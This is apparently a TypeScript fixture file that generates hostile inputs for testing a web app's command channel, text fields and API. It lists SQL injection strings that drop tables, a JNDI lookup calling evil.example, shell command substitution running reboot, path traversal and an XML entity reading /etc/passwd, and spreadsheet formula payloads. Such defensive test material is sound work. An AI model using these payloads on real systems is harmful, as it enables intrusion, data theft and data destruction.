/** What another part of a program might take for its own: prototypes, numbers, queries, lines of a log. */
import type { By, HttpInput, Recipe, Stage } from '../case.ts';
import { type Made, named, slug } from './made.ts';

const command = (why: string, given: unknown, by: By = 'desk', stage: Stage = 'talk'): Made =>
  named(slug(why), why, { road: 'command', input: { stage, by, command: given } });
const words = (why: string, field: 'name' | 'note' | 'theme' | 'title' | 'answer', text: Recipe): Made =>
  named(slug(why), why, { road: 'words', input: { field, text } });
const post = (why: string, path: string, raw: Recipe, more: Partial<HttpInput> = {}): Made =>
  named(slug(why), why, { road: 'http', input: { method: 'POST', path, raw, ...more } });
/** As it stands in the frame: what JSON.stringify cannot write. */
const frame = (why: string, text: string): Made =>
  named(slug(why), why, {
    road: 'frames',
    input: { after: 'connected', frames: [`420["command",{"commandId":"aaaaaaaaaaaaaaaaaaaa","command":${text}}]`] },
  });

const known = ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__'];
const numbers = ['1e400', '-0', '1e-400', '9007199254740993', '0x10', '1_000', 'Infinity', '-1', '1.5', '"1"'];
const queries = [
  "'; DROP TABLE events; --",
  "' OR '1'='1",
  "x'); DELETE FROM sessions; --",
  '" OR ""="',
  '%_%',
  '\\',
  "'||(SELECT body FROM events LIMIT 1)||'",
  'a\u02bc; DROP TABLE texts; --',
  '?1, :name, $1, @p',
  "'/*",
];
const lines: [string, string][] = [
  ['a line end and a line of a log', 'Noor\r\n{"level":60,"msg":"hacked"}'],
  ['a line end as of old machines', 'Noor\rSTOP'],
  ['colours of a terminal', '\u001b[31mrood\u001b[0m'],
  ['a terminal that is cleared', '\u001b[2J\u001b[H'],
  ['a title of a terminal', '\u001b]0;hacked\u0007'],
  ['a link of a terminal', '\u001b]8;;http://evil.example\u0007klik\u001b]8;;\u0007'],
  ['a one-byte control of a terminal', '\u009b31mrood'],
  ['backspaces over what stood there', 'Noor\b\b\b\bAdam'],
  ['a bell', 'Noor\u0007'],
  ['marks of a format', '%s %d %n %x %{name}'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it stands
  ['a look-up of a log library', '${jndi:ldap://evil.example/a}'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant as it stands
  ['a template', '#{7*7} ${7*7} {{7*7}} <%= 7*7 %>'],
  ['a command of a shell', '$(reboot) `reboot` ; reboot | reboot && reboot'],
  ['a header of a mail', 'Noor\nBcc: all@example.org'],
  ['a path', '../../../../etc/passwd'],
  ['an entity of XML', '<!ENTITY x SYSTEM "file:///etc/passwd">&x;'],
  ['the end of a JSON text', '"}],"admin":true,"x":[{"y":"'],
  ['a line of YAML', 'x: !!js/function "return 1"'],
];
const formulas = [
  '=1+1',
  '+cmd|’/C calc’!A0',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '=HYPERLINK("http://evil.example")',
  '＝1+1',
  ' =1',
  '"=1"',
  "'=1",
  ';=1',
  '|=1',
];

export const makeInjection = (): Made[] => [
  ...known.map((id) => command(`a seat named ${id}`, { type: 'RenameSeat', seat: id, name: 'x' })),
  ...known.map((id) => command(`a note named ${id}`, { type: 'ChangeNote', note: id, text: 'x' })),
  ...known.slice(0, 3).map((id) => command(`a step named ${id}`, { type: 'CloseStep', step: id })),
  ...known.slice(0, 3).map((id) =>
    command(
      `a field named ${id}`,
      {
        type: 'SubmitAnswer',
        unit: '$unit',
        step: 'def-duo',
        item: 'def',
        prompt: 'recognisable',
        values: { [id === '__proto__' ? 'x__proto__' : id]: { kind: 'text', text: 'x' } },
      },
      'seat',
      'pairs',
    ),
  ),
  ...known.slice(0, 3).map((id) => command(`a theme named ${id}`, { type: 'NameTheme', theme: id, name: 'x' })),
  ...known.slice(0, 3).map((id) => command(`a conclusion named ${id}`, { type: 'AskConclusion', conclusion: id })),
  ...known.slice(0, 4).map((id) => command(`a command named ${id}`, { type: id })),
  frame('a prototype in a command', '{"type":"TakeLead","__proto__":{"role":"system"}}'),
  frame(
    'a prototype in an answer',
    '{"type":"SubmitAnswer","unit":"$unit","step":"def-duo","item":"def","prompt":"recognisable","values":{"__proto__":{"kind":"text","text":"x"}}}',
  ),
  frame('the same word twice in a command', '{"type":"TakeLead","type":"CloseSession"}'),
  ...numbers.map((number) =>
    frame(`seconds of ${number}`, `{"type":"ExtendClock","step":"def-duo","seconds":${number}}`),
  ),
  ...queries.map((text) => words(`a query in a note: ${text}`, 'note', text)),
  ...lines.map(([why, text]) => words(`${why}, in a name`, 'name', text)),
  ...formulas.map((text) => words(`a formula in an answer: ${text}`, 'answer', text)),
  post('a query for a code', '/api/look-up', `{"entry":"' OR 1=1 --"}`),
  post('a comparison for a code', '/api/look-up', '{"entry":{"$gt":""}}'),
  post('a query for a key', '/api/sign-in', `{"key":"' OR ''='"}`),
  post(
    'a prototype for those who fill in',
    '/api/sessions',
    '{"script":"x","language":"nl","title":"","date":"2026-01-01","place":"","partner":"","collaboration":"","pairing":"self","fillIns":{"__proto__":["x"]}}',
    { as: 'facilitator' },
  ),
  post(
    'a script named like a prototype',
    '/api/sessions',
    '{"script":"__proto__","language":"nl","title":"","date":"2026-01-01","place":"","partner":"","collaboration":"","pairing":"self","fillIns":{}}',
    { as: 'facilitator' },
  ),
];
